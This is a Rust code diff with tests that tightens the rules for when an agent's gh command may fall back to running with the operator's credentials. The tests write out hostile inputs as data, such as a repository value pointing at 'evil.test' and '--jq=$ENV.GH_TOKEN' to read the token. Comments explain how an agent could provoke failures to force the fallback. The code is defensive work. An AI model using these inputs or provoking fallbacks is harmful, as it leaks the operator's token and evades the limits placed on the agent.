@@ -58,40 +58,62 @@ const RUNS_OTHER_PROGRAMS: [&str; 44] = [
 
 /// Why an argument may not follow an operator-safe entry, if it may not: it
 /// would read a local file (and post it as the operator), send the
-/// operator's token to another host, or start a browser or an editor from the
-/// operator's configuration. Short flags are judged letter by letter, as gh
-/// (pflag) accepts them combined (`-wF file`).
+/// operator's token to another host, run a jq program (which reads the
+/// environment), or start a browser or an editor from the operator's
+/// configuration. Short flags are judged letter by letter, as gh (pflag)
+/// accepts them combined (`-wF file`, `-cR HOST/OWNER/REPO`); without gh's
+/// flag sets this rule cannot tell a value from more flags, so it refuses
+/// both readings (the host's floor parses gh exactly, host/src/fallback_floor).
 fn unsafe_argument(arg: &str, value_of: Option<&str>) -> Option<&'static str> {
-    const READS_A_FILE: [&str; 3] = ["--body-file", "--input", "--recover"];
+    const READS_A_FILE: [&str; 4] = ["--body-file", "--input", "--recover", "--template"];
     const INTERACTIVE: [&str; 2] = ["--web", "--editor"];
     let long = |names: &[&str]| names.iter().any(|flag| arg == *flag || arg.strip_prefix(flag).is_some_and(|rest| rest.starts_with('=')));
-    let names_a_host = |value: &str| value.contains("://") || value.matches('/').count() >= 2;
     if arg.starts_with('@') || long(&READS_A_FILE) {
         return Some("reads a local file");
     }
     if long(&INTERACTIVE) {
         return Some("opens a browser or an editor");
     }
+    if long(&["--jq"]) {
+        return Some("runs a jq program, which reads the environment");
+    }
     if arg.contains("://") {
         return Some("names another host");
     }
-    // The repository, separate (`-R x`), attached (`-Rx`) or `--repo=x`: HOST/OWNER/REPO names a host.
-    let repo = match arg {
-        "-R" | "--repo" => value_of,
-        _ => arg.strip_prefix("--repo=").or_else(|| arg.strip_prefix("-R").filter(|v| !v.is_empty())),
+    // The repository: `--repo x`, `--repo=x`, or `R` anywhere in a cluster of
+    // short flags, its value the rest of the word (`-cRx`, `-R=x`) or the next
+    // argument. Only OWNER/REPO stays on the configured host.
+    let repo = match arg.strip_prefix("--repo") {
+        Some("") => Some(value_of.unwrap_or("")),
+        Some(rest) => rest.strip_prefix('='),
+        None => arg.strip_prefix('-').filter(|l| !l.starts_with('-')).and_then(|letters| letters.split_once('R')).map(|(_, rest)| match rest.strip_prefix('=').unwrap_or(rest) {
+            "" => value_of.unwrap_or(""),
+            attached => attached,
+        }),
     };
-    if repo.is_some_and(names_a_host) {
+    if repo.is_some_and(|r| !is_owner_repo(r)) {
         return Some("names another host");
     }
-    if let Some(letters) = arg.strip_prefix('-').filter(|l| !l.starts_with('-') && !arg.starts_with("-R")) {
-        if letters.contains('F') {
+    if let Some(letters) = arg.strip_prefix('-').filter(|l| !l.starts_with('-')) {
+        let letters = letters.split_once('R').map_or(letters, |(before, _)| before);
+        if letters.contains(['F', 'T']) {
             return Some("reads a local file");
         }
         if letters.contains(['w', 'e']) {
             return Some("opens a browser or an editor");
         }
+        if letters.contains('q') {
+            return Some("runs a jq program, which reads the environment");
+        }
     }
     None
+}
+
+/// `OWNER/REPO`: one slash, plain names; anything else (`HOST/OWNER/REPO`,
+/// `git@HOST:OWNER/REPO`, a URL) names a host of its own.
+fn is_owner_repo(value: &str) -> bool {
+    let plain = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'));
+    value.split_once('/').is_some_and(|(owner, repo)| plain(owner) && plain(repo))
 }
 
 /// The first argument after an entry that may not run as the operator, and why.
@@ -129,12 +151,19 @@ fn operator_safe_entry<'p>(rule: &'p FallbackRule, argv: &[String]) -> Option<Re
     })
 }
 
-/// Why a failure of this kind may (`Ok`) or may not (`Err`) fall back.
+/// Why a failure of this kind may (`Ok`) or may not (`Err`) fall back. Only
+/// a failure an agent on the same machine cannot provoke: a rate limit
+/// (flooding from the same address), a refused login (a lockout after failed
+/// logins; a suspension is meant), a timeout (local load) or an unreachable
+/// service (exhausted local ports) never does (docs/security.md).
 fn failure_allows_fallback(failure: &MintError) -> Result<(), String> {
     match failure {
         MintError::Vault(f) | MintError::Github(f) => match f.kind {
             FailureKind::Config => Err("an invalid setting never falls back: fix it".into()),
             FailureKind::Denied => Err("a request the egress allowlist denied never falls back: check the configured URLs".into()),
+            FailureKind::RateLimited => Err("a rate limit never falls back: an agent reaches one by flooding the service from the same address".into()),
+            FailureKind::Refused => Err("a refused login never falls back: an agent can provoke a lockout, and a suspension is meant".into()),
+            FailureKind::Timeout | FailureKind::Unreachable => Err("a service that did not answer never falls back: an agent can provoke that by loading this machine or its network".into()),
             _ => Ok(()),
         },
         MintError::InvalidRequest(_) => Err("a usage error never falls back".into()),
@@ -309,16 +338,16 @@ mod tests {
         let issue = argv(&["gh", "issue", "list"]);
         let github = |kind| MintError::Github(crate::error::ServiceFailure::new(kind, Some(422), "x"));
         let narrowed = |failure: &MintError| super::decide(&p.fallback, &Asked { mode: Mode::Exec, who: "b", fallback_allowed: true, narrowed: true, argv: &issue }, failure);
-        for kind in [FailureKind::Rejected, FailureKind::NotFound, FailureKind::Refused] {
+        for kind in [FailureKind::Rejected, FailureKind::NotFound] {
             let d = narrowed(&github(kind));
             assert!(!d.allowed && d.reason.contains("narrowed by the caller"), "{kind:?}: {}", d.reason);
             assert!(decide(&p.fallback, Mode::Exec, "b", true, &issue, &github(kind)).allowed, "the policy's own scope refused: an outage of the design's kind");
         }
-        assert!(narrowed(&github(FailureKind::Unreachable)).allowed, "an unreachable GitHub is not the caller's doing");
+        assert!(narrowed(&github(FailureKind::Server)).allowed, "GitHub failing is not the caller's doing");
     }
 
     fn github_down() -> MintError {
-        MintError::Github(crate::error::ServiceFailure::new(FailureKind::Unreachable, None, "GitHub could not be reached"))
+        MintError::Github(crate::error::ServiceFailure::new(FailureKind::Server, Some(502), "GitHub answered 502"))
     }
 
     #[test]
@@ -340,10 +369,14 @@ mod tests {
         let p = load(MAP, POLICY).unwrap();
         let issue = argv(&["gh", "issue", "list"]);
         let service = |kind| MintError::Vault(crate::error::ServiceFailure::new(kind, None, "x"));
-        for kind in [FailureKind::Absent, FailureKind::Refused, FailureKind::Unreachable, FailureKind::Timeout, FailureKind::Server, FailureKind::BadSecret] {
+        for kind in [FailureKind::Absent, FailureKind::NotFound, FailureKind::Rejected, FailureKind::Protocol, FailureKind::Server, FailureKind::BadSecret] {
             assert!(decide(&p.fallback, Mode::Exec, "b", true, &issue, &service(kind)).allowed, "{kind:?}");
         }
         for (failure, needle) in [
+            (service(FailureKind::RateLimited), "rate limit"),
+            (service(FailureKind::Refused), "refused login"),
+            (service(FailureKind::Timeout), "did not answer"),
+            (service(FailureKind::Unreachable), "did not answer"),
             (service(FailureKind::Config), "invalid setting"),
             (service(FailureKind::Denied), "egress allowlist"),
             (MintError::InvalidRequest("bad".into()), "usage error"),
@@ -385,6 +418,17 @@ mod tests {
             &["gh", "issue", "list", "--web"],
             &["gh", "issue", "comment", "1", "--editor"],
             &["gh", "issue", "comment", "1", "-e"],
+            // Finding 2: the repository inside combined short flags, and other spellings of another host.
+            &["gh", "issue", "view", "-cR", "evil.test/o/r", "1"],
+            &["gh", "issue", "view", "-cRevil.test/o/r", "1"],
+            &["gh", "issue", "view", "-cR=evil.test/o/r", "1"],
+            &["gh", "issue", "view", "-R=evil.test/o/r", "1"],
+            &["gh", "issue", "view", "-R", "git@evil.test:o/r", "1"],
+            &["gh", "issue", "view", "--repo", "127.0.0.1:9/o/r", "1"],
+            &["gh", "issue", "view", "-cR"],
+            &["gh", "issue", "view", "1", "-q", "$ENV"],
+            &["gh", "issue", "view", "1", "--jq=$ENV.GH_TOKEN"],
+            &["gh", "issue", "create", "-t", "x", "-T", "bug"],
             &["gh", "issue"],
             &["gh"],
             &[],
@@ -392,7 +436,7 @@ mod tests {
             let d = decide(&p.fallback, Mode::Exec, "raxx-dev-bot", true, &argv(cmd), &github_down());
             assert!(!d.allowed, "{cmd:?} ran as the operator: {}", d.reason);
         }
-        for fine in [&["gh", "issue", "list", "--state", "open"][..], &["gh", "issue", "list", "-R", "raxx-app/docs"], &["gh", "issue", "create", "-t", "title", "-b", "body"], &["gh", "issue", "list", "-L", "5"]] {
+        for fine in [&["gh", "issue", "list", "--state", "open"][..], &["gh", "issue", "list", "-R", "raxx-app/docs"], &["gh", "issue", "create", "-t", "title", "-b", "body"], &["gh", "issue", "list", "-L", "5"], &["gh", "issue", "list", "--repo=raxx-app/docs"], &["gh", "issue", "list", "-R=raxx-app/docs"], &["gh", "issue", "list", "-Rraxx-app/docs"]] {
             let d = decide(&p.fallback, Mode::Exec, "raxx-dev-bot", true, &argv(fine), &github_down());
             assert!(d.allowed, "{fine:?}: {}", d.reason);
         }
